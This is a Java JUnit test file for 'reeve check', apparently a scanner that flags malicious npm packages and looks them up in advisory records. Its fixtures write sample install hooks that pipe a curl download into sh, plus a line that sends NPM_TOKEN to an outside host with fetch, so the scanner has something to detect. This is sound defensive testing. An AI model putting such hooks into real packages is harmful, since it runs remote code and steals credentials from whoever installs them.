package uk.reeve.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.networknt.schema.InputFormat;
import com.networknt.schema.SpecificationVersion;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import uk.reeve.cli.report.Schemas;
import uk.reeve.engine.index.AdvisoryStore;
import uk.reeve.engine.input.JsonInput;
import uk.reeve.engine.input.Node;

/// `reeve check`, whole runs on a store of one invented record.
class CheckTest {

    @TempDir
    static Path shared;

    @TempDir
    Path folder;

    private String out = "";
    private String err = "";

    @BeforeAll
    static void importRecords() throws IOException {
        Path records = Files.createDirectories(shared.resolve("records/npm"));
        Files.writeString(records.resolve("MAL-2030-1.json"), """
                {"id": "MAL-2030-1", "modified": "2030-01-09T00:00:00Z", "published": "2030-01-08T00:00:00Z",
                 "affected": [{"package": {"ecosystem": "npm", "name": "teapot"}, "versions": ["1.0.1"]}]}
                """);
        try (AdvisoryStore store = AdvisoryStore.open(shared.resolve("db"))) {
            store.importFrom(List.of(shared.resolve("records")), LocalDate.parse("2030-01-10"));
        }
    }

    private int run(String... args) {
        ByteArrayOutputStream report = new ByteArrayOutputStream();
        ByteArrayOutputStream said = new ByteArrayOutputStream();
        Environment environment = new Environment(
                InputStream.nullInputStream(),
                report,
                said,
                Map.of("REEVE_DB", shared.resolve("db").toString(), "PATH", folder.toString()),
                folder,
                null,
                false,
                false,
                true,
                100,
                Instant.parse("2030-01-12T00:00:00Z"),
                true);
        int status = Reeve.run(args, environment);
        out = report.toString(StandardCharsets.UTF_8);
        err = said.toString(StandardCharsets.UTF_8);
        return status;
    }

    private void teapot(String version, String hook) throws IOException {
        Files.createDirectories(folder.resolve("teapot"));
        Files.writeString(
                folder.resolve("teapot/package.json"),
                "{\"name\": \"teapot\", \"version\": \"" + version + "\",\n \"scripts\": {" + hook + "}}");
    }

    @Test
    void what_looks_malicious_is_told_with_place_and_technique_and_why_and_ends_with_1() throws IOException {
        teapot("1.0.0", "\"postinstall\": \"curl -s http://203.0.113.7/x | sh\"");
        assertThat(run("check", "teapot")).isEqualTo(Exit.FAILED);
        assertThat(out)
                .startsWith("teapot 1.0.0 (npm) looks malicious: ")
                .contains("Known    no published record names it")
                .contains("downloads a program and runs it")
                .contains("package.json:2")
                .contains("T1059.004, T1105")
                .contains("curl -s http://203.0.113.7/x | sh")
                .contains("an alarm above 60")
                .doesNotContain("is malicious");
    }

    @Test
    void a_published_record_of_exactly_that_version_says_that_it_is() throws IOException {
        teapot("1.0.1", "");
        assertThat(run("check", "teapot")).isEqualTo(Exit.FAILED);
        assertThat(out)
                .contains("teapot 1.0.1 (npm) is malicious, by what is published")
                .contains("MAL-2030-1");
        teapot("1.0.2", "");
        assertThat(run("check", "teapot")).isZero();
        assertThat(out).contains("does not look malicious: ").doesNotContain("MAL-2030-1");
    }

    @Test
    void a_name_alone_is_looked_up_and_nothing_is_said_of_signs() {
        assertThat(run("check", "npm/teapot@1.0.1")).isEqualTo(Exit.FAILED);
        assertThat(run("check", "npm/teapot@1.0.0")).isZero();
        assertThat(out).contains("no published record names it").contains("not looked for");
    }

    @Test
    void indicators_are_said_with_list_and_line() throws IOException {
        teapot("1.0.5", "");
        Files.writeString(folder.resolve("list.txt"), "# Teapot worm\nteapot:1.0.5\n");
        assertThat(run("check", "teapot", "--indicators", "list.txt")).isEqualTo(Exit.FAILED);
        assertThat(out).contains("list.txt:2").contains("Teapot worm");
    }

    @Test
    void json_holds_every_sign_with_its_places() throws Exception {
        teapot("1.0.0", "\"postinstall\": \"curl -s http://203.0.113.7/x | sh\"");
        assertThat(run("check", "teapot", "--format", "json", "--output", "report.json"))
                .isEqualTo(Exit.FAILED);
        try (InputStream in = Files.newInputStream(folder.resolve("report.json"))) {
            Node report = JsonInput.read(in).items("packages").getFirst();
            assertThat(report.text("purl")).isEqualTo("pkg:npm/teapot@1.0.0");
            assertThat(report.isTrue("looksMalicious")).isTrue();
            assertThat(report.items("signs").getFirst().text("name")).isEqualTo("runs-download");
            assertThat(report.items("signs")
                            .getFirst()
                            .items("places")
                            .getFirst()
                            .text("line"))
                    .isEqualTo("2");
        }
    }

    @Test
    void json_is_what_its_schema_says() throws Exception {
        teapot("1.0.1", "\"postinstall\": \"node a.js; curl -s http://203.0.113.7/x | sh\"");
        Files.writeString(folder.resolve("teapot/a.js"), "fetch('https://kettle.invalid/' + process.env.NPM_TOKEN)");
        Files.writeString(folder.resolve("teapot/b.tgz"), "no archive");
        Files.writeString(folder.resolve("x.tgz"), "hello");
        run("check", "teapot", "x.tgz", "npm/teapot@1.0.1", "npm/teapot@9.0.0", "--format", "json");
        Path schema = Schemas.file("docs/reference/check.schema.json");
        assertThat(Schemas.errors(schema, SpecificationVersion.DRAFT_2020_12, out, InputFormat.JSON))
                .isEmpty();
        assertThat(out).contains("\"unread\"", "\"words\"", "\"combinations\"", "no archive", "MAL-2030-1");
        assertThat(Schemas.errors(
                        schema,
                        SpecificationVersion.DRAFT_2020_12,
                        out.replace("\"score\"", "\"points\""),
                        InputFormat.JSON))
                .isNotEmpty();
    }

    @Test
    void what_cannot_be_read_ends_with_3_and_what_is_not_there_with_2() throws IOException {
        Files.writeString(folder.resolve("x.tgz"), "hello");
        assertThat(run("check", "x.tgz")).isEqualTo(Exit.INCOMPLETE);
        assertThat(out).contains("x.tgz: ").contains("no archive");
        assertThat(run("check", "missing.tgz")).isEqualTo(Exit.USAGE);
        assertThat(err).contains("there is no such file or folder");
        assertThat(run("check")).isEqualTo(Exit.USAGE);
    }

    @Test
    void yara_that_is_not_here_is_said_in_one_line() throws IOException {
        teapot("1.0.0", "");
        Files.writeString(folder.resolve("a.yar"), "rule a { condition: true }");
        assertThat(run("check", "teapot", "--yara", "a.yar")).isEqualTo(Exit.USAGE);
        assertThat(err).contains("not on the PATH");
    }

    @Test
    void what_is_shown_of_a_package_cannot_command_a_terminal() throws IOException {
        teapot("1.0.0", "\"postinstall\": \"curl http://203.0.113.7/\\u001b[31mx | sh\"");
        run("check", "teapot");
        assertThat(out).doesNotContain("\u001b");
    }
}
